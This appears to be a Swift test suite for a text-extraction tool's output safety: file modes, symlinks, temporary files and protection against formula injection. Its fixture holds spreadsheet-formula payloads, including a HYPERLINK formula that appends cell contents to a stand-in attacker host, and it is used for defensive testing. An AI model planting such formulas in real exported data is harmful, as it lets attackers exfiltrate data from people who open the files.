// The -o file and the output formats as a careless or hostile user meets them: the output
// never eats an input, keeps the file's mode, link and owner's wishes, and no text cell
// ever becomes a formula in CSV, TSV or xlsx.
import Foundation
import Testing
import TestSupport
import XLSXReading

func permissions(_ path: String) throws -> Int {
    (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? NSNumber)?.intValue ?? -1
}

/// Lines that begin the way spreadsheet formulas do, each with an indicator in it.
let hostileReport = """
    =HYPERLINK("http://evil.example/"&A1,"点击")涉及金额100万元。
    +1 项目投资200万元。
    -2 收入增长5%。
    @SUM(A1:A9) 共有30名法律顾问。
    =1+1
    """

let libreOffice = ["/usr/bin/soffice", "/usr/local/bin/soffice", "/usr/bin/libreoffice"].first {
    FileManager.default.isExecutableFile(atPath: $0)
}

@Suite struct OutputSafetyTests {
    /// `extract r.txt -o r.txt` is refused, like cat's "input file is output file", and
    /// r.txt is not touched; also through another path to the same file (a link).
    @Test func inputFileIsOutputFileIsRefused() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let report = Data("涉及金额超130亿元。\n".utf8)
        try report.write(to: URL(fileURLWithPath: dir + "/r.txt"))
        try FileManager.default.createSymbolicLink(atPath: dir + "/alias.txt", withDestinationPath: "r.txt")
        for (input, output) in [("r.txt", "r.txt"), ("./r.txt", "alias.txt"), ("alias.txt", dir + "/r.txt")] {
            let r = try run(["extract", input, "-o", output], in: dir)
            #expect(r.status == 2, "\(input) -o \(output)")
            #expect(r.stderr.contains("input file is output file"), "\(r.stderr)")
            #expect(try Data(contentsOf: URL(fileURLWithPath: dir + "/r.txt")) == report)
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir).sorted() == ["alias.txt", "r.txt"])   // no temporary left
    }

    /// `-o dir/out.txt` while walking dir: the second run does not read its own earlier output.
    @Test func folderWalkSkipsTheOutputFile() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data("受理纠纷972宗。\n".utf8).write(to: URL(fileURLWithPath: dir + "/a.txt"))
        let first = try run(["extract", dir, "-o", dir + "/out.txt", "-q"])
        #expect(first.status == 0)
        let second = try run(["extract", dir, "-o", dir + "/out.txt", "-q"])
        #expect(second.status == 0, "\(second.stderr)")
        #expect(second.stderr.contains(dir + "/out.txt: skipped: it is the output file"))
        let text = try String(contentsOfFile: dir + "/out.txt", encoding: .utf8)
        #expect(!text.contains(dir + "/out.txt,"))
        #expect(text.contains(dir + "/a.txt,1,5,972宗,972"))
    }

    /// A new output file gets 0666 less the umask (077 gives 0600), and an existing file
    /// keeps its mode (0600 stays 0600, 0640 stays 0640).
    @Test func outputFileModeFollowsUmaskAndExistingFile() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let input = root + "/corpus/000_34359a9591d34247.txt"
        let r = try runProgram("/bin/sh", ["-c", "umask 077 && exec \"$0\" extract \"$1\" -q -o \"$2\"", binary, input, dir + "/new.csv"])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(try permissions(dir + "/new.csv") == 0o600)
        let r2 = try runProgram("/bin/sh", ["-c", "umask 022 && exec \"$0\" extract \"$1\" -q -o \"$2\" --format xlsx", binary, input, dir + "/new.xlsx"])
        #expect(r2.status == 0, "\(r2.stderr)")
        #expect(try permissions(dir + "/new.xlsx") == 0o644)
        for mode in [0o600, 0o640] {
            try Data("old".utf8).write(to: URL(fileURLWithPath: dir + "/old.csv"))
            try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: dir + "/old.csv")
            let r3 = try run(["extract", input, "-q", "-o", dir + "/old.csv"])
            #expect(r3.status == 0)
            #expect(try permissions(dir + "/old.csv") == mode)
            #expect(try String(contentsOfFile: dir + "/old.csv", encoding: .utf8).hasPrefix("file,line,"))
        }
    }

    /// `-o link` writes through to the link's target; the link stays a link.
    @Test func symbolicLinkIsWrittenThrough() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir + "/real", withIntermediateDirectories: true)
        try Data("old".utf8).write(to: URL(fileURLWithPath: dir + "/real/target.csv"))
        try FileManager.default.createSymbolicLink(atPath: dir + "/link.csv", withDestinationPath: "real/target.csv")
        let r = try run(["extract", root + "/corpus/000_34359a9591d34247.txt", "-q", "-o", "link.csv"], in: dir)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: dir + "/link.csv") == "real/target.csv")
        #expect(try String(contentsOfFile: dir + "/real/target.csv", encoding: .utf8).hasPrefix("file,line,"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir + "/real") == ["target.csv"])
        // A dangling link: its target is created.
        try FileManager.default.createSymbolicLink(atPath: dir + "/dangling.xlsx", withDestinationPath: "real/new.xlsx")
        let x = try run(["extract", root + "/corpus/000_34359a9591d34247.txt", "-q", "-o", "dangling.xlsx"], in: dir)
        #expect(x.status == 0, "\(x.stderr)")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: dir + "/dangling.xlsx") == "real/new.xlsx")
        #expect(try XLSXWorkbookContent(path: dir + "/real/new.xlsx").sheets.count == 1)
    }

    /// A read-only file is refused even though the folder would let a rename replace it.
    /// As root the test runs zhibiao as `nobody` against a root-owned 0644 file (someone
    /// else's, read-only to nobody); otherwise against one's own 0444 file.
    @Test func readOnlyFileIsRefused() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.setAttributes([.posixPermissions: 0o777], ofItemAtPath: dir)
        let input = dir + "/in.txt"
        try Data("受理纠纷972宗。\n".utf8).write(to: URL(fileURLWithPath: input))
        try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: input)
        let target = dir + "/theirs.csv"
        try Data("their report".utf8).write(to: URL(fileURLWithPath: target))
        let r: Result
        if geteuid() == 0 {
            try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: target)
            try #require(FileManager.default.isExecutableFile(atPath: "/usr/bin/setpriv"))
            r = try runProgram("/usr/bin/setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", binary, "extract", input, "-q", "-o", target], in: dir)
        } else {
            try FileManager.default.setAttributes([.posixPermissions: 0o444], ofItemAtPath: target)
            r = try run(["extract", input, "-q", "-o", target], in: dir)
        }
        #expect(r.status != 0)
        #expect(r.stderr.contains(target + ": cannot write the output"), "\(r.stderr)")
        #expect(try String(contentsOfFile: target, encoding: .utf8) == "their report")
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir).sorted() == ["in.txt", "theirs.csv"])
    }

    /// A run killed with SIGKILL cannot remove its temporary file; the next run to the same
    /// output does (its process is gone), and leaves a live run's file alone.
    @Test func nextRunRemovesAKilledRunsTemporaryFile() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        func start() throws -> (Process, Pipe) {
            let p = Process()
            p.executableURL = URL(fileURLWithPath: binary)
            p.arguments = ["extract", "-", "-q", "-o", dir + "/out.csv"]
            let input = Pipe()
            p.standardInput = input   // held open: the run waits for its input
            try p.run()
            return (p, input)
        }
        func temporaries() throws -> [String] {
            try FileManager.default.contentsOfDirectory(atPath: dir).filter { $0.hasPrefix(".out.csv.zhibiao-") }
        }
        let (killed, _) = try start()
        var stale: [String] = []
        for _ in 0..<100 where stale.isEmpty { usleep(50_000); stale = try temporaries() }
        try #require(stale.count == 1)
        kill(killed.processIdentifier, SIGKILL)
        killed.waitUntilExit()
        #expect(try temporaries() == stale)   // left behind

        let (live, liveInput) = try start()
        var both: [String] = []
        for _ in 0..<100 where both.count < 1 || both == stale { usleep(50_000); both = try temporaries() }
        #expect(!both.contains(stale[0]))     // the killed run's file is gone
        #expect(both.count == 1)              // the live run's own
        let third = try run(["extract", root + "/corpus/000_34359a9591d34247.txt", "-q", "-o", dir + "/out.csv"], in: dir)
        #expect(third.status == 0)
        #expect(try temporaries() == both)    // locked by the live run: kept
        try liveInput.fileHandleForWriting.close()
        live.waitUntilExit()
        #expect(live.terminationStatus == 0)
        #expect(try temporaries().isEmpty)
    }

    /// xlsx needs a file: standard output is a usage error; `-o x.xlsx` picks the format.
    @Test func xlsxNeedsAFileAndIsChosenByName() throws {
        let toStdout = try run(["extract", "corpus", "--format", "xlsx"])
        #expect(toStdout.status == 2)
        #expect(toStdout.stderr.contains("needs a file: add -o FILE.xlsx"))
        #expect(toStdout.stdout.isEmpty)
        let toDevice = try run(["extract", "corpus", "--format", "xlsx", "-o", "/dev/null"])
        #expect(toDevice.status == 2 && toDevice.stderr.contains("not a regular file"))
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let r = try run(["extract", "corpus", "-q", "-o", dir + "/Out.XLSX"])
        #expect(r.status == 0, "\(r.stderr)")
        let book = try XLSXWorkbookContent(path: dir + "/Out.XLSX")
        #expect(book.sheets.first?.rows.count ?? 0 > 300)
        // The other names: .jsonl and .tsv choose their format too; --format wins.
        #expect(try run(["extract", "corpus", "-q", "-o", dir + "/x.jsonl"]).status == 0)
        #expect(try String(contentsOfFile: dir + "/x.jsonl", encoding: .utf8).hasPrefix("{\"file\":"))
        #expect(try run(["extract", "corpus", "-q", "-o", dir + "/x.tsv"]).status == 0)
        #expect(try String(contentsOfFile: dir + "/x.tsv", encoding: .utf8).hasPrefix("file\tline\t"))
        #expect(try run(["extract", "corpus", "-q", "--format", "csv", "-o", dir + "/y.tsv"]).status == 0)
        #expect(try String(contentsOfFile: dir + "/y.tsv", encoding: .utf8).hasPrefix("file,line,"))
        // A byte-order mark means nothing in a workbook.
        #expect(try run(["extract", "corpus", "--bom", "-o", dir + "/z.xlsx"]).status == 2)
        #expect(try run(["extract", "corpus", "--no-header", "-o", dir + "/z.xlsx"]).status == 2)
    }

    /// The hostile lines reach the output (with --raw they are there as written) but never
    /// as a formula: CSV and TSV fields start with the apostrophe, xlsx cells are strings.
    @Test func hostileLinesNeverYieldAFormula() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data(hostileReport.utf8).write(to: URL(fileURLWithPath: dir + "/hostile.txt"))
        let raw = try run(["extract", dir + "/hostile.txt", "-q", "--raw"])
        #expect(raw.text.contains(",\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"点击\"\")涉及金额100万元。\""))
        #expect(raw.text.contains(",+1 项目投资200万元。\r\n") && raw.text.contains(",-2 收入增长5%。\r\n"))

        let csv = try run(["extract", dir + "/hostile.txt", "-q"])
        let records = parseCSV(csv.text)
        #expect(records.count == 5)   // header + 4 rows
        let header = records[0]
        let sentence = header.firstIndex(of: "sentence")!
        let text = Set(["file", "match", "unit", "label", "period", "sentence"].compactMap { header.firstIndex(of: $0) })
        for record in records.dropFirst() {
            for (i, field) in record.enumerated() where text.contains(i) {
                #expect(!startsFormula(field), "csv field \(i): \(field)")
            }
        }
        #expect(records.dropFirst().contains { $0[sentence].hasPrefix("'=HYPERLINK(") })

        let tsv = try run(["extract", dir + "/hostile.txt", "-q", "--format", "tsv"])
        for line in tsv.text.split(separator: "\n").dropFirst() {
            let fields = line.split(separator: "\t", omittingEmptySubsequences: false)
            #expect(fields.count == header.count)
            for (i, field) in fields.enumerated() where text.contains(i) {
                #expect(!startsFormula(String(field)), "tsv field \(i): \(field)")
            }
        }

        let r = try run(["extract", dir + "/hostile.txt", "-q", "-o", dir + "/h.xlsx"])
        #expect(r.status == 0)
        let sheet = try XLSXWorkbookContent(path: dir + "/h.xlsx").sheets[0]
        #expect(sheet.rows.count == 5)
        let cells = sheet.rows.joined().compactMap { $0 }
        #expect(!cells.contains { if case .formula = $0 { true } else { false } })
        #expect(cells.contains(.text("=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")涉及金额100万元。")))
        #expect(cells.contains(.text("-2 收入增长5%。")))
    }

    /// Where LibreOffice is installed: the workbook opens there with every cell typed right
    /// (tools/check-xlsx.py converts it headless to CSV and compares each cell with the
    /// --raw CSV of the same run).
    @Test(.enabled(if: libreOffice != nil && FileManager.default.isExecutableFile(atPath: "/usr/bin/python3")))
    func libreOfficeReadsEveryCellTypedRight() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data(hostileReport.utf8).write(to: URL(fileURLWithPath: dir + "/hostile.txt"))
        for kinds in ["default", "all"] {
            let inputs = ["corpus", dir + "/hostile.txt", "--kinds", kinds, "-q"]
            #expect(try run(["extract"] + inputs + ["-o", dir + "/out.xlsx"]).status == 0)
            #expect(try run(["extract"] + inputs + ["--raw", "-o", dir + "/ref.csv"]).status == 0)
            let check = try runProgram("/usr/bin/python3", [root + "/tools/check-xlsx.py", dir + "/out.xlsx", dir + "/ref.csv"])
            let report = check.text + check.stderr
            #expect(check.status == 0, "\(report)")
            #expect(report.contains(", 0 wrong"), "\(report)")
        }
    }
}

extension OutputSafetyTests {
    /// Where LibreOffice is installed: it imports the guarded CSV and TSV with formula
    /// evaluation on, and every hostile sentence comes back as its text (with the guard's
    /// apostrophe); the same file with --raw has its formulas evaluated, which shows the
    /// check can fail.
    @Test(.enabled(if: libreOffice != nil))
    func libreOfficeRunsNoFormulaFromGuardedCSVOrTSV() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data(hostileReport.utf8).write(to: URL(fileURLWithPath: dir + "/hostile.txt"))
        /// The sentences as LibreOffice has them after importing `file` (fields split by `separator`).
        func importedSentences(_ arguments: [String], separator: Int, name: String) throws -> [String] {
            let r = try run(["extract", dir + "/hostile.txt", "-q", "-o", dir + "/" + name] + arguments)
            try #require(r.status == 0, "\(r.stderr)")
            let out = dir + "/lo-" + name
            try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
            let convert = try runProgram(libreOffice!, [
                "-env:UserInstallation=file://\(dir)/profile", "--headless",
                "--infilter=CSV:\(separator),34,76,1,,0,false,true,false,false,false,-1,true",   // evaluate formulas
                "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false",
                "--outdir", out, dir + "/" + name])
            try #require(convert.status == 0, "\(convert.stderr)")
            let files = try FileManager.default.contentsOfDirectory(atPath: out)
            try #require(files.count == 1)
            let records = parseCSV(try String(contentsOfFile: out + "/" + files[0], encoding: .utf8))
            let sentence = try #require(records.first?.firstIndex(of: "sentence"))
            return records.dropFirst().map { $0[sentence] }
        }
        let written = hostileReport.split(separator: "\n").prefix(4).map(String.init)
        let csv = try importedSentences([], separator: 44, name: "guarded.csv")
        #expect(csv == written.map { "'" + $0 })
        let tsv = try importedSentences(["--format", "tsv"], separator: 9, name: "guarded-tsv.csv")
        #expect(tsv == written.map { "'" + $0 })
        let raw = try importedSentences(["--raw"], separator: 44, name: "raw.csv")
        #expect(raw[0] != written[0], "LibreOffice evaluates the unguarded =HYPERLINK line")
    }
}

func startsFormula(_ field: String) -> Bool {
    guard let first = field.unicodeScalars.first else { return false }
    return "=+-@\t\r".unicodeScalars.contains(first) && field != "-"
}

